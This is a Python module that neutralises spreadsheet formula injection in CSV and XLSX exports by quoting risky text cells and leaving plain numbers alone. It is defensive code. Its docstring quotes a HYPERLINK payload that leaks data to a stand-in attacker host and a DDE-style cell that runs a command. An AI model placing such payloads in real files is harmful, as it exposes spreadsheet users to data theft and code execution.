"""Spreadsheet-safe export cells: every CSV (and XLSX) the portal writes goes through here.

A spreadsheet runs a cell that starts with =, +, -, @ (and, in some, a tab or carriage
return) as a formula: `=HYPERLINK("https://evil.example/?"&A1, "Details")` in a model's
name would leak the sheet when a staff member clicks it (OWASP, "CSV Injection").
The usual remedy is applied: such a text cell gets a leading apostrophe, which the
spreadsheet shows as text and hides.

Numbers stay numbers. A cell that is a plain number literal in full ("-3", "+1.5",
"-2e-05") is data: no spreadsheet can run anything from it, and quoting it would turn a
negative price into text. Only the whole cell counts: "-2+3" or "-1,cmd|'/c calc'!A0"
is not a number and is quoted.
"""

from __future__ import annotations

import re
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# ASCII digits only: "-²" or "-٣" is text and stays quoted.
_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?", re.ASCII)
QUOTE = "'"


def safe_cell(value: Any) -> Any:
    """The value to write: text that a spreadsheet would run as a formula gets a leading
    apostrophe; numbers, None and other text are returned unchanged."""
    if not isinstance(value, str) or not value.startswith(FORMULA_PREFIXES):
        return value
    if _NUMBER.fullmatch(value):
        return value
    return QUOTE + value


def unsafe_cell(value: Any) -> Any:
    """The inverse for re-import: drop the apostrophe safe_cell added (a quote followed by
    a formula prefix), so an exported sheet imports back to the same values."""
    if isinstance(value, str) and value.startswith(QUOTE) and value[1:2]:
        rest = value[1:]
        if rest.startswith(FORMULA_PREFIXES) and safe_cell(rest) == value:
            return rest
    return value


def safe_row(values: list[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]
